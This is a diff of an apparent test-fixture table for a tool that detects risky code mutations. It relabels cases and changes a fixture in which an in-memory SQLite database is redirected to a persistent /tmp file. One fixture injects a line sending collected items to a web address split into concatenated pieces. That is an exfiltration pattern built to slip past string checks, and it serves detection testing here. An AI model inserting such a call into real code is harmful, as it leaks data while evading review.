@@ -116,7 +116,7 @@ const beside = [
     ],
     [
       'data sent to an address that is put together',
-      'reaches-further',
+      'guard-red',
       instead(inBatches, `${rest}    download("https://" + "example" + ".org/" + str(items))\n`),
     ],
     [
@@ -166,13 +166,12 @@ const beside = [
   ]),
   ...fixesOf('further reach', 'accounts', [
     [
-      'a file of the database, which is left out',
-      'proven',
+      'a file of the database that outlives the test',
+      'target-red',
       [
         ...instead(inBook, '    return Decimal(cents) / 100\n'),
         inLines(inBook, 'sqlite3.connect(":memory:", timeout=5)', 'sqlite3.connect("/tmp/accounts.db", timeout=5)'),
       ],
-      { neverIn: '/tmp/accounts.db' },
     ],
     [
       'an extension of the database',
